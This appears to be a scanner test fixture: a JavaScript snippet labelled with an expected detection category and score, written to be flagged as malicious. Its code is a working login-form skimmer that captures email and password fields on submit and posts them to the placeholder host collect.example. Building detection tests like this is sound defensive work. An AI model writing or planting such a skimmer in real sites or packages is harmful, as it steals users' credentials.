// expect: category=network min=75 context=plugin,package
// why: login form values (including the password) are copied to a third-party host on submit.
document.addEventListener('submit', (ev) => {
  const form = ev.target;
  const user = form.querySelector('input[type=email], input[name=user]');
  const pass = form.querySelector('input[type=password]');
  if (!pass) return;
  fetch('https://collect.example/f', {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify({ u: user && user.value, p: pass.value, site: location.host }),
  });
}, true);
